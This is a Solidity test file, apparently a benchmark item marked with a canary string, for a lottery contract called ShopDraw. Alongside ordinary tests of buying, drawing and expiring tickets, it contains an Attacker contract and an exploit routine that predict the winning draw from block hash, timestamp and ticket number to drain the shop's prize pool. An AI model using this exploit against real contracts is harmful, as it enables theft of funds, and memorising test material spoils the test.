// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./ShopDraw.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-1fff797e-5fc7-42d6-b7f7-8a3b02cee350

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private maker = msg.sender;

    function mint(address receiver, uint256 amount) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Money public money;
    ShopDraw private shop;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        vm.roll(1_000);
        money = new Money();
        shop = new ShopDraw(money, 10e18);
        money.mint(address(shop), 5_000e18);
        fill(ANA);
        fill(BEN);
        vm.prank(ANA);
        shop.buyTicket();
        mallory = new Attacker(shop, money);
        money.mint(address(mallory), 50e18);
    }

    function fill(address customer) private {
        money.mint(customer, 200e18);
        vm.prank(customer);
        money.approve(address(shop), 200e18);
    }

    function test_Regular() public {
        require(shop.prize() == 500e18 && shop.promised() == 500e18, "promised");
        vm.prank(BEN);
        uint256 number = shop.buyTicket();
        require(shop.promised() == 1_000e18 && money.balanceOf(BEN) == 190e18, "bought");
        vm.roll(1_004);
        vm.prank(ANA);
        shop.drawTicket(0);
        require(shop.promised() == 500e18 && money.balanceOf(ANA) == 190e18, "drawn");
        vm.roll(1_254);
        shop.expireTicket(number);
        require(shop.promised() == 0, "expired");
        shop.collectTakings(address(this), 1_000e18);
        require(money.balanceOf(address(this)) == 1_000e18, "collected");
        shop.transferOwnership(ANA);
        vm.prank(ANA);
        shop.renounceOwnership();
    }

    function test_RefusesCustomers() public {
        vm.startPrank(ANA);
        vm.roll(1_003);
        vm.expectRevert("The draw is yet to come.");
        shop.drawTicket(0);
        vm.roll(1_253);
        vm.expectRevert("The ticket has not expired.");
        shop.expireTicket(0);
        vm.stopPrank();
        vm.expectRevert("The caller does not hold the ticket.");
        shop.drawTicket(0);
        vm.roll(1_254);
        vm.startPrank(ANA);
        vm.expectRevert("The ticket has expired.");
        shop.drawTicket(0);
        shop.expireTicket(0);
        vm.expectRevert("The ticket is drawn.");
        shop.expireTicket(0);
        vm.stopPrank();
    }

    function test_RefusesPromises() public {
        vm.expectRevert("A ticket needs a price.");
        new ShopDraw(money, 0);
        vm.expectRevert("The amount is promised.");
        shop.collectTakings(BEN, 4_510e18 + 1);
        vm.prank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        shop.collectTakings(BEN, 1);
        shop.collectTakings(address(this), 4_510e18);
        vm.prank(BEN);
        vm.expectRevert("The shop cannot pay another prize.");
        shop.buyTicket();
    }

    function exploit() public {
        for (uint256 i = 0; i < 5; i++) {
            mallory.buy();
            vm.roll(block.number + 4);
            while (!mallory.ready()) {
                vm.warp(block.timestamp + 1);
            }
            mallory.draw();
        }
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 2_500e18, "no gain");
    }

    function target() public view returns (address) {
        return address(shop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ShopDraw private shop;
    uint256 private number;
    uint256 private drawBlock;

    constructor(ShopDraw s, Money m) {
        shop = s;
        m.approve(address(s), 50e18);
    }

    function buy() external {
        number = shop.buyTicket();
        drawBlock = block.number + 3;
    }

    function ready() public view returns (bool) {
        return uint256(keccak256(abi.encodePacked(blockhash(drawBlock), block.timestamp, number))) % 100 == 0;
    }

    function draw() external {
        if (ready()) shop.drawTicket(number);
    }
}
